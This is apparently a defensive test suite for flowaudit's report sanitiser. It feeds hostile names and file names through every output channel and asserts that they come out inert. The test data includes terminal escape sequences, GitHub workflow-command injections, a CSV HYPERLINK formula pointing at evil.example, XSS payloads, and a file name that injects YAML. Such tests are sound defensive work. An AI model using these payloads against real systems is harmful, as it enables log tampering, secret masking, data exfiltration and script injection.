"""Attacks through output channels: a pull request to the map repository owns every name,
key and file name flowaudit echoes. Each test sends hostile text through one channel and
asserts it arrives inert: no raw control or bidi character, no line a GitHub runner would
read as a workflow command, no spreadsheet formula, no Markdown link or mention, no YAML
injected into an imported map."""

from __future__ import annotations

import csv
import io
import json
import os
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from flowaudit.checks.base import short
from flowaudit.model.yamlsource import parse_text
from flowaudit.reports.sanitise import (
    _UNSAFE_IN_JSON,
    _json_escape,
    escape,
    for_css_string,
    for_csv_cell,
    for_dot,
    for_json,
    for_markdown,
    for_markdown_with_addresses,
    for_terminal,
    for_uri,
)
from tests.helpers import BASE, run

AS_OF = ["--as-of", "2026-11-25"]

#: Written independently of the sanitiser: what must never reach an output raw.
RAW_CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")

#: OSC 52 (write the clipboard), CSI (clear the screen), a C1 CSI, a right-to-left override,
#: a line separator, and line breaks that would start workflow commands.
HOSTILE = (
    "Evil\x1b]52;c;cHduZWQ=\x07 \x1b[2J\x9b31m \u202egnp.exe\u2066\u2028"
    "\r\n::add-mask::secret\n  ::stop-commands::token\n##[add-mask]x"
)


#: The annotations flowaudit itself writes in the github format; nothing else may start "::".
OWN_ANNOTATION = re.compile(
    r"::(error|warning|notice) (file=[^:,]*,line=\d+,col=\d+,)?title=[^:]*::"
)


def assert_inert(text: str) -> None:
    """No raw control character (but the output's own line breaks), no workflow command."""
    text = text.replace("\r\n", "\n")  # CSV's own line terminator
    assert not RAW_CONTROL.search(text), RAW_CONTROL.findall(text)
    for line in text.splitlines():
        assert not line.lstrip().startswith("::") or OWN_ANNOTATION.match(line), line
    assert "##[" not in text


def hostile_map(tmp_path: Path, name: str = HOSTILE) -> Path:
    """The base organisation renamed, plus a party, subject and flow carrying ``name``."""
    folder = tmp_path / "map"
    folder.mkdir(exist_ok=True)
    quoted = json.dumps(name)  # a YAML double-quoted scalar: escapes, no raw control
    (folder / "acme.yaml").write_text(
        BASE.read_text(encoding="utf-8").replace("name: Acme Ltd", f"name: {quoted}")
    )
    (folder / "hostile.yaml").write_text(
        "parties:\n"
        f"  - {{id: evil, name: {quoted}, kind: hosting, country: US, role: processor}}\n"
        "flows:\n"
        "  - {id: f-evil, from: acme, to: evil, categories: [contact], subjects: [staff], "
        f"purpose: support, basis: contract, description: {quoted}}}\n"
    )
    return folder


# -- the core ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("a\nb", "a\\nb"),
        ("a\r\nb", "a\\r\\nb"),
        ("\x1b]52;c;x\x07", "\\x1b]52;c;x\\x07"),
        ("\x9b31m", "\\x9b31m"),
        ("\x7f", "\\x7f"),
        ("\u202egnp\u202c", "\\u202egnp\\u202c"),
        ("\u2066x\u2069", "\\u2066x\\u2069"),
        ("a\u2028b\u2029", "a\\u2028b\\u2029"),
        ("::error::x", "\\x3a:error::x"),
        ("  ::warning::x", "  \\x3a:warning::x"),
        ("\u00a0\u3000::error::x", "\u00a0\u3000\\x3a:error::x"),  # .NET's TrimStart eats these
        ("a ##[add-mask]x", "a \\x23#[add-mask]x"),
        ("Café :: ok", "Café :: ok"),
    ],
)
def test_escape_shows_controls_and_breaks_workflow_commands(raw: str, shown: str) -> None:
    assert escape(raw) == shown == for_terminal(raw)


def test_markdown_from_input_is_inert() -> None:
    assert for_markdown("[x](http://e) ![i](http://e/i.png) <b>|`c`\\ @octocat & www.e.com") == (
        "\\[x\\](http:&#8203;//e) \\!\\[i\\](http:&#8203;//e/i.png) \\<b\\>\\|\\`c\\`\\\\ "
        "@&#8203;octocat &amp; www&#8203;.e.com"
    )


def test_an_email_address_in_markdown_is_a_code_span_as_recorded() -> None:
    """Auditor review 2026-12-03y, problem 8: the Markdown record of processing wrote a contact
    email as "enquiries@&#8203;concerouk.com", which does not work copied. An address is a
    code span (GitHub makes no link or mention inside one), exact; the text around it is
    inert as before, a mention and a link still broken."""
    assert for_markdown_with_addresses("enquiries@concerouk.com") == "`enquiries@concerouk.com`"
    assert for_markdown_with_addresses(
        "Office, dpo.team+x@acme.example, @octocat [x](http://e) *b* a_b@c-d.co.uk|"
    ) == (
        "Office, `dpo.team+x@acme.example`, @&#8203;octocat \\[x\\](http:&#8203;//e) \\*b\\* "
        "`a_b@c-d.co.uk`\\|"
    )
    assert for_markdown_with_addresses("no address @ all") == for_markdown("no address @ all")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cell_that_would_be_a_formula_is_quoted(start: str) -> None:
    cell = for_csv_cell(start + 'HYPERLINK("http://e")')
    assert cell.startswith("'") and not RAW_CONTROL.search(cell)
    assert for_csv_cell("Acme = good") == "Acme = good"


@pytest.mark.parametrize("space", [" ", "  ", "\u00a0", "\u3000", " \n"])
@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_csv_cell_with_leading_space_before_a_formula_is_quoted(space: str, start: str) -> None:
    # OWASP CSV injection: a spreadsheet may trim leading spaces and read the rest as a formula
    cell = for_csv_cell(space + start + "1+1")
    assert cell.startswith("'") and not RAW_CONTROL.search(cell)
    assert for_csv_cell(" Acme") == " Acme"


def test_uri_is_percent_encoded() -> None:
    assert for_uri("maps/a b#c%d?.yaml") == "maps/a%20b%23c%25d%3F.yaml"
    # on POSIX a backslash is part of a file name, not a separator: the URI names the file
    # that exists, `sub\\map.yaml` in `fn2`, not a folder `sub` (attack review 2026-12-03l, 7)
    assert for_uri("fn2/sub\\map.yaml") == "fn2/sub%5Cmap.yaml"
    assert for_uri("x\n::add-mask::y") == "x%0A%3A%3Aadd-mask%3A%3Ay"


def test_dot_folds_spaces_and_escapes_controls() -> None:
    assert for_dot("a\n b\x1b[2J\u202e") == "a b\\x1b[2J\\u202e"


def _css_string_value(content: str) -> str:
    """What a CSS parser reads from ``"content"``: the one string token's value."""
    import tinycss2

    tokens = tinycss2.parse_component_value_list(f'"{content}"')
    assert [token.type for token in tokens] == ["string"], tokens
    return str(tokens[0].value)


def test_css_string_holds_hostile_text_inside_its_quotes() -> None:
    """The running header of a printed report is a CSS string (review 2026-12-02d, 8): an
    organisation name must not end it, nor close the <style> block it stands in."""
    name = 'Evil "Co" \\ </style><script>alert(1)</script>\n2nd line \u202eevil'
    content = for_css_string(name)
    assert not re.search(r'["<>\n\r\f]', content)
    assert "</style" not in content.lower()
    assert "\\22 Co\\22 " in content and "\\3C /style\\3E " in content
    # a CSS parser reads the text as the sanitiser shows it: visible escapes, nothing raw
    assert _css_string_value(content) == escape(name)
    assert _css_string_value(for_css_string("Zürich · Ltd")) == "Zürich · Ltd"


def test_json_keeps_values_and_escapes_bytes() -> None:
    value = {"name": HOSTILE}
    text = for_json(value)
    assert json.loads(text) == value
    assert_inert(text)


#: Text rich in what the sanitiser is about: controls, separators, bidi, colons and hashes.
HOSTILE_TEXT = st.text(
    st.one_of(
        st.characters(),
        st.sampled_from(["\n", "\r", "\x1b", "\x9b", "\u202e", "\u2028", ":", "#", "[", " "]),
    )
)


@given(HOSTILE_TEXT)
def test_any_text_is_one_inert_line(text: str) -> None:
    shown = for_terminal(text)
    assert "\n" not in shown
    assert_inert(shown)
    assert escape(shown) == shown  # idempotent: sanitising twice changes nothing


@given(HOSTILE_TEXT)
def test_any_text_is_one_css_string(text: str) -> None:
    content = for_css_string(text)
    assert not re.search(r'["<>\n\r\f]', content)
    assert _css_string_value(content) == escape(text)


@given(HOSTILE_TEXT)
def test_json_keeps_any_value_exactly(text: str) -> None:
    document = {text: [text]}
    rendered = for_json(document)
    assert json.loads(rendered) == document
    assert_inert(rendered)


#: What reports put in a JSON document: text, integers (past 64 bits too), booleans, null,
#: nested in lists and objects.
JSON_DOCUMENTS = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(), HOSTILE_TEXT),
    lambda inner: st.one_of(
        st.lists(inner, max_size=4), st.dictionaries(HOSTILE_TEXT, inner, max_size=4)
    ),
    max_leaves=12,
)


@given(JSON_DOCUMENTS)
def test_json_is_written_as_the_standard_library_writes_it(document: object) -> None:
    """for_json writes with orjson (fast) and checks the bytes in C: the text must be the
    very text json.dumps(indent=2, sort_keys=True) then the sanitiser's slow path give."""
    slow = json.dumps(document, indent=2, sort_keys=True, ensure_ascii=False)
    assert for_json(document) == escape(slow, _json_escape, _UNSAFE_IN_JSON) + "\n"


# -- every channel through the command line ----------------------------------------------


def test_input_problems_on_stderr_under_github_actions(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A YAML key and file names of the PR's choosing are echoed in input problems."""
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    folder = hostile_map(tmp_path)
    (folder / "keys.yaml").write_text('"x\\n::add-mask::secret\\n::stop-commands::t": 1\n')
    (folder / "::error::forged.yaml").write_text("bogus: 1\n")
    (folder / "a\n::warning file=x::forged.yaml").write_text("bogus: 1\n")
    monkeypatch.chdir(folder)  # file names as given: one starts the problem's line
    names = sorted(path.name for path in folder.iterdir())
    result = run(["check", *names, *AS_OF, "--format", "auto"])
    assert result.exit_code == 2, result.output
    assert_inert(result.stderr)
    lines = result.stderr.splitlines()
    assert "keys.yaml:1:1: unknown top-level key 'x\\n::add-mask::secret\\n::stop-commands::t'" in (
        lines
    )
    assert "\\x3a:error::forged.yaml:1:1: unknown top-level key 'bogus'" in lines
    assert "a\\n::warning file=x::forged.yaml:1:1: unknown top-level key 'bogus'" in lines


def test_validate_and_check_text(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    folder = hostile_map(tmp_path)
    validated = run(["validate", str(folder)])
    assert validated.exit_code == 0, validated.output
    assert_inert(validated.stdout)
    assert validated.stdout.startswith("Evil\\x1b]52;c;cHduZWQ=\\x07 \\x1b[2J\\x9b31m")
    checked = run(["check", str(folder), *AS_OF, "--format", "auto"])
    assert checked.exit_code == 1
    assert_inert(checked.stdout + checked.stderr)


def test_a_file_name_starting_a_line_cannot_be_a_workflow_command(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "m"
    folder.mkdir()
    (folder / "acme.yaml").write_text(BASE.read_text(encoding="utf-8"))
    (folder / "::error::pwned.yaml").write_text(
        "flows:\n  - {id: f, from: acme, to: us-host, categories: [contact], "
        "subjects: [staff], purpose: support, basis: contract}\n"
    )
    monkeypatch.chdir(folder)
    result = run(["check", "acme.yaml", "::error::pwned.yaml", *AS_OF, "--format", "text"])
    assert result.exit_code == 1
    assert_inert(result.stdout)
    assert "\\x3a:error::pwned.yaml:" in result.stdout


def test_trace_text_and_json(tmp_path: Path) -> None:
    folder = hostile_map(tmp_path)
    for fmt in ("text", "json"):
        result = run(["trace", "contact", str(folder), "--format", fmt])
        assert result.exit_code == 0, result.output
        assert_inert(result.stdout)
    document = json.loads(result.stdout)
    assert HOSTILE in {place["name"] for place in document["reached"]}  # JSON keeps the value


def test_diff_text_and_json(tmp_path: Path) -> None:
    base = tmp_path / "base"
    base.mkdir()
    (base / "acme.yaml").write_text(BASE.read_text(encoding="utf-8"))
    head = hostile_map(tmp_path)
    for fmt in ("text", "json"):
        result = run(["diff", str(base), str(head), *AS_OF, "--format", fmt])
        assert result.exit_code == 1, result.output
        assert_inert(result.stdout)
    assert " (controller) → Evil\\x1b" in run(["diff", str(base), str(head), *AS_OF]).stdout


@pytest.mark.parametrize("fmt", ["md", "csv", "html"])
def test_ropa(tmp_path: Path, fmt: str) -> None:
    result = run(["ropa", str(hostile_map(tmp_path)), *AS_OF, "--format", fmt])
    assert result.exit_code == 0, result.output
    assert_inert(result.stdout)


def test_ropa_csv_has_no_formula_cell(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    result = run(["ropa", str(hostile_map(tmp_path, formula)), *AS_OF, "--format", "csv"])
    assert result.exit_code == 0, result.output
    cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'" + formula + " (processor, US)" in cells  # the recipients cell, shown as text


def test_markdown_report_has_no_link_image_or_mention(tmp_path: Path) -> None:
    name = "[click](http://evil.example) ![x](http://evil.example/p.png) @octocat <img src=x>"
    result = run(["check", str(hostile_map(tmp_path, name)), *AS_OF, "--format", "markdown"])
    assert result.exit_code == 1
    assert not re.search(
        r"(?<!\\)[\[\]<>]", result.stdout.replace("<sub>", "").replace("</sub>", "")
    )
    assert "@octocat" not in result.stdout and "http://evil" not in result.stdout
    assert "\\[click\\](http:&#8203;//evil.example)" in result.stdout


def test_sarif_uri_is_percent_encoded(tmp_path: Path) -> None:
    folder = tmp_path / "m"
    folder.mkdir()
    (folder / "acme.yaml").write_text(BASE.read_text(encoding="utf-8"))
    (folder / "a b#%?.yaml").write_text(
        "flows:\n  - {id: f, from: acme, to: us-host, categories: [contact], "
        "subjects: [staff], purpose: support, basis: contract}\n"
    )
    result = run(["check", str(folder), *AS_OF, "--format", "sarif"])
    uris = {
        location["physicalLocation"]["artifactLocation"]["uri"]
        for finding in json.loads(result.stdout)["runs"][0]["results"]
        for location in finding.get("locations", [])
    }
    assert uris and all(re.fullmatch(r"[A-Za-z0-9\-._~/%]+", uri) for uri in uris), uris
    assert any(uri.endswith("/a%20b%23%25%3F.yaml") for uri in uris)


@pytest.mark.parametrize("fmt", ["json", "sarif", "junit", "github"])
def test_machine_formats(tmp_path: Path, fmt: str) -> None:
    result = run(["check", str(hostile_map(tmp_path)), *AS_OF, "--format", fmt])
    assert result.exit_code == 1
    assert_inert(result.stdout)
    if fmt == "json":  # the value itself is kept exactly, only its bytes are escaped
        messages = {f["message"] for f in json.loads(result.stdout)["findings"]}
        assert (
            f"{short(HOSTILE)} (controller) → {short(HOSTILE)} (processor): an Art. 28 "
            "contract is required; none is linked"
        ) in messages


def test_html_report(tmp_path: Path) -> None:
    out = tmp_path / "out"
    result = run(["report", str(hostile_map(tmp_path)), *AS_OF, "--out", str(out)])
    assert result.exit_code == 1, result.output  # findings, like check; the files are written
    assert_inert((out / "report.html").read_text(encoding="utf-8"))
    assert_inert((out / "report.md").read_text(encoding="utf-8"))


def test_dot_diagram(tmp_path: Path) -> None:
    result = run(["diagram", str(hostile_map(tmp_path)), *AS_OF, "--format", "dot"])
    assert result.exit_code == 0, result.output
    assert_inert(re.sub(r"(?m)^\t+", "", result.stdout))  # Graphviz's own indentation
    # Graphviz expands escapes (\G, \N...) in a tooltip twice: backslashes doubled twice
    assert 'tooltip="Evil\\\\\\\\x1b]52;c;cHduZWQ=\\\\\\\\x07 ' in result.stdout
    # the title in the HTML-like legend label: backslashes doubled (Graphviz expands there too)
    assert "<B>Evil\\\\x1b]52;c;cHduZWQ=\\\\x07 " in result.stdout


def test_fides_file_name_cannot_inject_yaml(tmp_path: Path) -> None:
    """A manifest named with line breaks once added a waiver to the imported map."""
    folder = tmp_path / "fides"
    folder.mkdir()
    fixtures = Path(__file__).parent.parent / "fixtures" / "fides"
    (folder / "demo_system.yml").write_text((fixtures / "demo_system.yml").read_text())
    evil = (
        "x\nwaivers: [{id: w, rule: GDPR-TRANSFER, element: flows, owner: me, "
        "justification: ok, approved_on: 2026-01-01, expires_on: 9999-12-31}]\n#.yml"
    )
    (folder / evil).write_text((fixtures / "demo_dataset.yml").read_text())
    out = tmp_path / "map.yaml"
    result = run(["import", "fides", str(folder), "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert_inert(result.stderr)
    imported = parse_text(out.read_text(encoding="utf-8"), "out.yaml").data
    assert "waivers" not in imported
    assert_inert(out.read_text(encoding="utf-8"))


def test_rules_and_explain_echo_a_hostile_policy(tmp_path: Path) -> None:
    """A policy file passed with --policies can live in the PR too."""
    quoted = json.dumps(HOSTILE)
    policy = tmp_path / "p.yaml"
    policy.write_text(
        "policy: {id: evil, title: Evil}\nrules:\n  - id: EVIL-RULE\n    kind: encryption\n"
        f"    title: {quoted}\n    severity: high\n    rationale: {quoted}\n"
        f"    references: {{legal: [{quoted}]}}\n    fix: {quoted}\n"
        f"    examples: {{compliant: {quoted}, non_compliant: {quoted}}}\n"
    )
    listed = run(["rules", "--policies", str(policy)])
    assert listed.exit_code == 0, listed.output
    assert_inert(listed.stdout)
    explained = run(["explain", "EVIL-RULE", "--policies", str(policy)])
    assert explained.exit_code == 0, explained.output
    assert_inert(explained.stdout)
    assert "EVIL-RULE: Evil\\x1b]52;c;cHduZWQ=\\x07" in explained.stdout


def test_sarif_rule_help_from_a_policy_is_inert_markdown(tmp_path: Path) -> None:
    """GitHub renders a SARIF rule's help.markdown on the alert page."""
    policy = tmp_path / "p.yaml"
    policy.write_text(
        "policy: {id: evil, title: Evil}\nrules:\n  - id: EVIL-RULE\n    kind: encryption\n"
        "    title: t\n    severity: high\n"
        '    rationale: "[click](http://evil.example) ![i](http://evil.example/i.png) @octocat"\n'
        "    references: {legal: ['<img src=x onerror=alert(1)>']}\n"
        "    fix: 'Set `encrypted_in_transit: true`.'\n"
    )
    result = run(["check", str(BASE), "--policies", str(policy), *AS_OF, "--format", "sarif"])
    rules = json.loads(result.stdout)["runs"][0]["tool"]["driver"]["rules"]
    help_markdown = next(r for r in rules if r["id"] == "EVIL-RULE")["help"]["markdown"]
    assert help_markdown == (
        "\\[click\\](http:&#8203;//evil.example) \\!\\[i\\](http:&#8203;//evil.example/i.png) "
        "@&#8203;octocat\n\n**How to fix:** Set `encrypted_in_transit: true`.\n\n"
        "- \\<img src=x onerror=alert(1)\\>"
    )


def test_rules_markdown_from_a_hostile_policy_is_inert(tmp_path: Path) -> None:
    policy = tmp_path / "p.yaml"
    policy.write_text(
        "policy: {id: evil, title: Evil}\nrules:\n  - id: EVIL-RULE\n    kind: encryption\n"
        "    title: '[click](http://evil.example)'\n    severity: high\n"
        "    rationale: '@octocat <script>x</script>'\n    references: {legal: [x]}\n"
        "    fix: f\n"
        '    examples: {compliant: "a: 1\\n```\\n# Injected heading [x](http://evil.example)",'
        ' non_compliant: "b: 2"}\n'
    )
    result = run(["rules", "--format", "md", "--policies", str(policy)])
    assert result.exit_code == 0, result.output
    assert_inert(result.stdout)
    text = result.stdout
    assert "| \\[click\\](http:&#8203;//evil.example) |" in text
    assert "@&#8203;octocat \\<script\\>x\\</script\\>" in text
    assert "````yaml\na: 1\n```\n# Injected heading [x](http://evil.example)\n````" in text


def test_every_report_writer_uses_the_sanitiser() -> None:
    """A new writer in reports/ must take its input text through reports/sanitise.py (the
    behavioural tests above cover the writers that exist; this catches the next one)."""
    import flowaudit.reports

    folder = Path(flowaudit.reports.__file__).parent
    # not writers: they build data or sentences that a writer above renders (registers and
    # summary feed the HTML and Markdown reports), or turn that HTML into a PDF; ropa_import
    # reads a spreadsheet into map data (its notes are printed through the sanitiser by the CLI)
    not_writers = {
        "__init__",
        "formats",
        "output",
        "sanitise",
        "registers",
        "summary",
        "pdf",
        "ropa_import",
        "bounds",  # two constants: how much of a long list the report prints
        "causes",  # groups findings and words their sentences: the HTML renders them
        "places",  # where each grouped flow stands: HTML and Markdown escape what it returns
    }
    bypassing = [
        path.name
        for path in sorted(folder.glob("*.py"))
        if path.stem not in not_writers
        and "from flowaudit.reports.sanitise import" not in path.read_text(encoding="utf-8")
    ]
    assert bypassing == []


@pytest.mark.parametrize("fmt", ["text", "json", "sarif", "junit", "github", "markdown"])
def test_a_file_name_that_is_not_utf8(tmp_path: Path, fmt: str) -> None:
    """Linux file names are bytes: Python hands 0xFF over as a lone surrogate, which no
    UTF-8 writer can encode (exit 3 before the sanitiser showed it)."""
    folder = tmp_path / "m"
    folder.mkdir()
    (folder / "acme.yaml").write_text(BASE.read_text(encoding="utf-8"))
    flow = (
        b"flows:\n  - {id: f, from: acme, to: us-host, categories: [contact], "
        b"subjects: [staff], purpose: support, basis: contract}\n"
    )
    with open(os.fsencode(folder) + b"/\xff\x1b[2J.yaml", "wb") as handle:
        handle.write(flow)
    out = tmp_path / f"out.{fmt}"
    result = run(["check", str(folder), *AS_OF, "--output", f"{fmt}={out}"])
    assert result.exit_code == 1, result.output
    written = out.read_text(encoding="utf-8")
    assert_inert(written)
    shown = {
        "sarif": "/%FF%1B%5B2J.yaml",  # the name's own bytes, percent-encoded
        "json": "/\\udcff\\u001b[2J.yaml",  # a JSON escape: the value is kept
    }
    assert shown.get(fmt, "/\\udcff\\x1b[2J.yaml") in written


def test_no_unsafe_character_is_printable_so_printable_text_needs_no_escape() -> None:
    """The fast path returns printable text (without a command starter) as it is: sound only
    while every character either set escapes is one str.isprintable() refuses."""
    from flowaudit.reports import sanitise

    for pattern in (sanitise.UNSAFE, sanitise._UNSAFE_IN_JSON):
        printable = [
            hex(c)
            for c in range(0x110000)
            if pattern.match(chr(c))
            and chr(c).isprintable()
            and not sanitise._PRINTABLE_UNSAFE.match(chr(c))
        ]
        assert printable == []


@pytest.mark.parametrize(
    "text",
    [
        "plain id",
        "a::b",
        "  ::warning x",
        "x ##[error] y",
        "tab\there",
        "del\x7f",
        "ü",
        "\u202e",
        "A (controller) → B (processor): x",
        "→ ::warning",
        "→ ##[error]",
        "→\u2028",
    ],
)
def test_the_printable_fast_path_gives_what_the_full_escape_gives(text: str) -> None:
    from flowaudit.reports import sanitise

    slow = sanitise._COMMAND.sub(
        lambda m: (m.group(1) or "") + sanitise._visible(m.group()[-1]),
        sanitise.UNSAFE.sub(lambda m: sanitise._visible(m.group()), text),
    )
    assert sanitise.escape(text) == slow


@given(st.text(alphabet=st.sampled_from(list(" :#[]ab\t\n\x1b\x7fü\u202e")) | st.characters()))
def test_the_fast_path_never_differs_from_the_full_escape(text: str) -> None:
    from flowaudit.reports import sanitise

    slow = sanitise._COMMAND.sub(
        lambda m: (m.group(1) or "") + sanitise._visible(m.group()[-1]),
        sanitise.UNSAFE.sub(lambda m: sanitise._visible(m.group()), text),
    )
    assert sanitise.escape(text) == slow


@pytest.mark.parametrize(
    ("location", "span"),
    [
        # a line 100 is GitHub's ":100:" emoji outside a code span; inside, the path is exact
        ("map/flows.yaml:100:5", "`map/flows.yaml:100:5`"),
        ("a|b.yaml:1:2", "`a\\|b.yaml:1:2`"),  # a table cell's pipe, escaped even in a span
        ("we`ird``.yaml:3:4", "```we`ird``.yaml:3:4```"),  # a fence longer than any run
        ("`x.yaml:1:1", "`` `x.yaml:1:1 ``"),
        ("a\u202eb.yaml:1:1", "`a\\u202eb.yaml:1:1`"),  # one sanitiser first
    ],
)
def test_a_markdown_location_is_a_code_span_of_its_exact_text(location: str, span: str) -> None:
    from flowaudit.reports.sanitise import for_markdown_code

    assert for_markdown_code(location) == span


@pytest.mark.parametrize(
    "letter",
    [
        *("\u115f", "\u1160", "\u3164", "\uffa0", "\u034f", "\u17b4", "\u17b5"),
        *("\u180b", "\u2800", "\ufe00", "\ufe0f", "\U000e0100", "\U000e0151", "\U000e01ef"),
    ],
)
def test_each_blank_printable_character_is_escaped_in_printable_text_beside_an_arrow(
    letter: str,
) -> None:
    """Characters Python calls printable that show nothing (Hangul fillers, variation
    selectors, which can carry hidden bytes one per character, the blank Braille pattern),
    in text that is printable and not ASCII (a finding's "A → B"), are shown escaped (attack
    review 2026-12-02d, hole 5: 'approve all' hidden in variation selectors)."""
    from flowaudit.reports.sanitise import for_json, for_terminal

    code = ord(letter)
    shown = f"\\u{code:04x}" if code < 0x10000 else f"\\U{code:08x}"
    assert for_terminal(f"A → B{letter}") == f"A → B{shown}"
    assert letter not in for_json({"name": f"A → B{letter}"})


def test_the_sanitiser_escapes_what_the_waiver_check_calls_invisible() -> None:
    """One list: what a waiver's owner or reason may not consist of is what output escapes."""
    from flowaudit.model.schema import visible
    from flowaudit.reports.sanitise import for_terminal

    blank = [chr(c) for c in range(0x110000) if chr(c).isprintable() and not visible(chr(c))]
    assert blank and [c for c in blank if for_terminal(c) == c and not c.isspace()] == []


def test_shows_anything_answers_as_visible_does() -> None:
    """The fast test (a printable ASCII character) and the full one agree on every
    character of the basic plane and on the blank ones beyond it, alone and in blank text."""
    from flowaudit.model.invisible import BLANK_PRINTABLE
    from flowaudit.model.schema import shows_anything, visible

    characters = [chr(code) for code in range(0x10000) if not 0xD800 <= code <= 0xDFFF]
    characters += [*sorted(BLANK_PRINTABLE), "\U000e0001", "\U0001d173", "\U0001f600"]
    for char in characters:
        assert shows_anything(char) is bool(visible(char)), hex(ord(char))
    for char in [*map(chr, range(0x80)), *BLANK_PRINTABLE, "\u200b", "\u00a0", "\u00e9"]:
        assert shows_anything(f" \u200b{char}\u3164 ") is bool(visible(char)), hex(ord(char))


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        # the reviewer's text: a run of one is not closed by a run of two, so no span
        (
            "See `x **this is bold** :rocket: #1 GH-2``",
            "See `x \\*\\*this is bold\\*\\* :&#8203;rocket: #&#8203;1 GH&#8203;-2``",
        ),
        (
            "Ask `x **urgent** :rotating_light: #1``",
            "Ask `x \\*\\*urgent\\*\\* :&#8203;rotating_light: #&#8203;1``",
        ),
        # a run of two closed by the next run of two, single backticks inside it literal
        ("a ``x **b** `#3` c`` *d*", "a ``x **b** `#3` c`` \\*d\\*"),
        # CommonMark's examples: ``foo`bar`` is one span, `foo``bar` another
        ("``foo`bar`` *x*", "``foo`bar`` \\*x\\*"),
        ("`foo``bar` *x*", "`foo``bar` \\*x\\*"),
        # an opener with no closer of its length is literal, and a later pair still a span
        ("``a *b* `c` *d*", "``a \\*b\\* `c` \\*d\\*"),
        ("`a ``b` c`` *d*", "`a ``b` c`` \\*d\\*"),
        # three backticks, then one: no span; the text after stays inert
        ("```x *y* ` #2", "```x \\*y\\* ` #&#8203;2"),
        ("Set `encrypted_in_transit: true`.", "Set `encrypted_in_transit: true`."),
    ],
)
def test_code_spans_pair_backtick_runs_as_commonmark_does(text: str, shown: str) -> None:
    """Attack review 2026-12-03u, problem 5: ``for_markdown(code_spans=True)`` paired
    backticks one by one, so `` `x **b** #1`` `` was taken for a span that cmark-gfm does not
    close and its emphasis, emoji and issue reference stayed live. A run of N backticks
    opens a span that only a run of exactly N closes (the expected outputs were checked by
    rendering them with cmark-gfm: no <strong> or <em>, and the same code spans as the
    text)."""
    assert for_markdown(text, code_spans=True) == shown
